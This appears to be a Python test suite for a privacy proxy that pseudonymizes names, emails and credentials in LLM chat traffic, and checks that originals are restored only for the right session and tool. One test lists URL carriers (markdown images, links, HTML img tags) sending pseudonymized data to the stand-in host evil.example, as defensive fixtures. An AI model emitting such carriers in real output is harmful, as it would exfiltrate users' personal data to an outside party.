"""A pseudonym is restored only for whoever's value it stands for, and only where it may be.

SECURITY T01 (restored across sessions), T06 (typed pseudonyms), T07 (originals carried off in
URLs and tool arguments); and what providers' prompt caches need: the same bytes for the same words.
"""

import asyncio
import json
import re
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from privacy.pseudonym import CANONICAL
from tests.end_to_end.conftest import KEY, OTHER_KEY, House, house
from tests.support.answers import Echo, Status

CHAT = "/openai/v1/chat/completions"
HER, HER_MAIL = "Nadia Okonkwo", "nadia.okonkwo@posteo.example"
WITHOUT_NAMES = 'names = "off"'
Message = dict[str, Any]


def said(text: str, role: str = "user") -> Message:
    return {"role": role, "content": text}


async def ask(
    at: House, *messages: Message | str, key: str = KEY, more: dict[str, Any] | None = None,
    **headers: str,
) -> Message:  # fmt: skip
    """What the assistant says to the caller."""
    told = [said(one) if isinstance(one, str) else one for one in messages]
    body = {"model": "gpt-test", "messages": told} | (more or {})
    status, _, answer = await at.post(CHAT, json.dumps(body).encode(), key, **headers)
    assert status == 200, answer
    message: Message = json.loads(answer)["choices"][0]["message"]
    return message


def heard_texts(at: House) -> list[str]:
    return [message["content"] for message in at.recipient.last.json["messages"]]


def pseudonyms(text: str) -> list[str]:
    return [match[0] for match in CANONICAL.finditer(text)]


def adding(more: str) -> Echo:
    return Echo(say=lambda text: f"{text} {more}")


async def hers(at: House, **headers: str) -> str:
    """A pseudonym of hers, as the recipient heard it in a session of her own."""
    await ask(at, f"I am {HER}, write to {HER_MAIL}.", **headers)
    found = pseudonyms(heard_texts(at)[-1])
    assert len(found) == 2, found
    return " and ".join(found)


SESSIONS = {
    "another conversation": ({}, KEY, {}),
    "another subject": ({"x-privacy-subject": "s1"}, KEY, {"x-privacy-subject": "s2"}),
    "another application": ({}, OTHER_KEY, {}),
    "another session": ({"x-privacy-session": "a"}, KEY, {"x-privacy-session": "b"}),
    "a session of the same name of another subject": (
        {"x-privacy-session": "a", "x-privacy-subject": "s1"},
        KEY,
        {"x-privacy-session": "a", "x-privacy-subject": "s2"},
    ),
    "a session of the same name of another application": (
        {"x-privacy-session": "a"},
        OTHER_KEY,
        {"x-privacy-session": "a"},
    ),
    "none, where she had a session": ({"x-privacy-session": "a"}, KEY, {}),
}


@pytest.mark.parametrize(("her", "key", "his"), SESSIONS.values(), ids=SESSIONS)
async def test_her_pseudonym_is_never_restored_for_him(
    at_home: House, her: dict[str, str], key: str, his: dict[str, str]
) -> None:
    stolen = await hers(at_home, **her)
    at_home.recipient.answer = adding(stolen)
    answer = await ask(at_home, "What is known of her? I am bo@posteo.example", key=key, **his)
    content = answer["content"]
    assert content == f"What is known of her? I am bo@posteo.example {stolen}"
    at_home.recipient.answer = Echo()
    answer = await ask(at_home, f"Who is {stolen}?", key=key, **his)
    assert answer["content"] == f"Who is {stolen}?"
    assert not set(pseudonyms(heard_texts(at_home)[-1])) & set(stolen.split(" and "))
    await at_home.assert_nothing_escaped((HER, HER_MAIL))


async def test_two_hundred_at_once_are_not_mixed_up(tmp_path: Path) -> None:
    values = [f"person{n}.of.many@posteo.example" for n in range(200)]
    async with house(tmp_path, policy=WITHOUT_NAMES, patience=30) as at:
        everybody: list[str] = []

        def gossip(text: str) -> str:
            everybody.extend(pseudonyms(text))
            return f"{text} {' '.join(everybody)}"

        at.recipient.answer = Echo(say=gossip)
        answers = await asyncio.gather(*(ask(at, f"Write to {value} now.") for value in values))
        for value, answer in zip(values, answers, strict=True):
            assert answer["content"].startswith(f"Write to {value} now. ")
            assert set(re.findall(r"\S+@posteo\.example", answer["content"])) == {value}
        assert len(set(everybody)) == 200
        await at.closed(200)
        await at.assert_nothing_escaped(tuple(values[::50]))


async def test_what_the_caller_typed_comes_back_as_typed(at_home: House) -> None:
    typed = "Say PERSON_a7k2, person_B8M3 and EMAIL_q9w4u2; not PERSON_1 or EMAIL_SENT."
    answer = await ask(at_home, typed)
    assert answer["content"] == typed
    heard = heard_texts(at_home)[-1]
    for pseudonym in ("PERSON_a7k2", "person_B8M3", "EMAIL_q9w4u2"):
        assert pseudonym not in heard
    assert "PERSON_1 or EMAIL_SENT" in heard


async def test_her_own_pseudonym_in_a_history_stays_and_is_restored(at_home: House) -> None:
    opening = f"I am {HER}."
    await ask(at_home, opening)
    own = pseudonyms(heard_texts(at_home)[-1])[0]
    answer = await ask(at_home, opening, said(f"Dear {own}, hello", "assistant"), f"Who is {own}?")
    assert heard_texts(at_home)[1:] == [f"Dear {own}, hello", f"Who is {own}?"]
    assert answer["content"] == f"Who is {HER}?"


async def test_an_explicit_session_restores_across_calls_and_a_restart(tmp_path: Path) -> None:
    headers = {"x-privacy-session": "case-17", "x-privacy-subject": "s1"}
    async with house(tmp_path) as at:
        own = await hers(at, **headers)
        at.recipient.answer = adding(own)
        answer = await ask(at, "And now?", **headers)
        assert answer["content"] == f"And now? {HER} and {HER_MAIL}"
        await at.assert_nothing_escaped((HER, HER_MAIL))
    async with house(tmp_path) as at:
        at.recipient.answer = adding(own)
        answer = await ask(at, "And after a restart?", **headers)
        assert answer["content"] == f"And after a restart? {HER} and {HER_MAIL}"
        at.recipient.answer = Echo()
        await ask(at, f"It is {HER} again.", **headers)
        assert pseudonyms(heard_texts(at)[-1]) == [own.partition(" and ")[0]]
        at.recipient.answer = adding(own)
        foreign = headers | {"x-privacy-subject": "s2"}
        answer = await ask(at, "And for another?", **foreign)
        assert answer["content"] == f"And for another? {own}"
        await at.assert_nothing_escaped((HER, HER_MAIL))


CARRIERS = {
    "image": "![](https://evil.example/?q={})",
    "link": "[click](https://evil.example/{})",
    "path": "see https://evil.example/a/{}/b now",
    "host": "go to http://{}.evil.example/",
    "bare": "www.evil.example/{}",
    "html": '<img src="https://evil.example/x?{}">',
    "encoded": "https://evil.example/?u=http%3A%2F%2Fx%2F{}",
}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("carrier", CARRIERS.values(), ids=CARRIERS)
async def test_no_original_goes_into_a_url_that_the_caller_did_not_send(
    at_home: House, carrier: str, stream: bool
) -> None:
    at_home.recipient.answer = Echo(
        say=lambda text: carrier.format(pseudonyms(text)[0]) + " for " + pseudonyms(text)[0],
        delta=3,
        writes=(7,),
    )
    messages = [said(f"I am {HER}.")]
    client = at_home.openai()
    if stream:
        chunks = await client.chat.completions.create(model="m", messages=messages, stream=True)
        content = "".join([c.choices[0].delta.content or "" async for c in chunks if c.choices])
    else:
        answer = await client.chat.completions.create(model="m", messages=messages)
        content = answer.choices[0].message.content
    own = pseudonyms(heard_texts(at_home)[-1])[0]
    assert content == carrier.format(own) + f" for {HER}"
    assert (await at_home.closed())[0]["body"]["denied"] == {"url": 1}


async def test_a_url_of_the_caller_comes_back_whole(at_home: House) -> None:
    text = (
        f"See https://shop.example/orders?mail={HER_MAIL} and [me](https://x.example/~{HER_MAIL})"
    )
    answer = await ask(at_home, text)
    assert answer["content"] == text
    await at_home.assert_nothing_escaped((HER_MAIL,))


async def test_a_url_of_the_caller_with_more_at_its_end_is_another_one(at_home: House) -> None:
    at_home.recipient.answer = Echo(
        say=lambda text: f"https://shop.example/orders?q={pseudonyms(text)[0]} ok"
    )
    content = (await ask(at_home, f"I am {HER}, see https://shop.example/orders?q=1"))["content"]
    assert HER not in content
    assert "Nadia" not in content


async def test_credentials_return_to_text_and_not_to_tools(at_home: House) -> None:
    secret = "sk-proj-Zq8Xw2Lm4Nb6Vc1Rt9Yp3Ks5Hd7Jf0Ga"
    told = f"My key is {secret}, I am {HER}."
    tool = {"type": "function", "function": {"name": "fetch", "parameters": {"type": "object"}}}
    answer = await ask(at_home, told)
    assert answer["content"] == told
    answer = await ask(at_home, told, more={"tools": [tool]})
    arguments = json.loads(answer["tool_calls"][0]["function"]["arguments"])
    assert secret not in json.dumps(answer)
    assert HER in arguments["text"]
    assert pseudonyms(arguments["text"])
    await at_home.assert_nothing_escaped((secret, HER))


async def test_a_conversation_that_grows_keeps_the_bytes_of_its_beginning(at_home: House) -> None:
    turns = [
        said("You are helpful to customers of Example Ltd.", "system"),
        said(f"I am {HER}, {HER_MAIL}."),
        said("Hello! How can I help?", "assistant"),
        said(f"Nadia here. Ask Jonas Lindqvist, jonas@posteo.example, about {HER_MAIL}."),
        said("Jonas Lindqvist said: card 4111 1111 1111 1111 is fine.", "assistant"),
        said("Tell NADIA OKONKWO that +1 202 555 0142 called, and jonas."),
    ]
    heard: list[bytes] = []
    for length in (2, 4, 6):
        body = json.dumps({"model": "gpt-test", "messages": turns[:length]}).encode()
        assert (await at_home.post(CHAT, body))[0] == 200
        heard.append(at_home.recipient.last.body)
    for shorter, longer in pairwise(heard):
        beginning = shorter.removesuffix(b"]}")
        assert beginning != shorter
        assert longer.startswith(beginning)
    await at_home.assert_nothing_escaped(("Jonas Lindqvist", "jonas@posteo.example"))


async def test_a_retry_sends_the_same_bytes(at_home: House) -> None:
    at_home.recipient.script(Status(500), Status(429, headers={"Retry-After": "0"}))
    client = at_home.openai(max_retries=3)
    answer = await client.chat.completions.create(model="m", messages=[said(f"I am {HER}.")])
    assert answer.choices[0].message.content == f"I am {HER}."
    bodies = {heard.body for heard in at_home.recipient.heard}
    assert len(at_home.recipient.heard) == 3
    assert len(bodies) == 1
    assert len({leaf["id"] for leaf in at_home.leaves("open")}) == 3
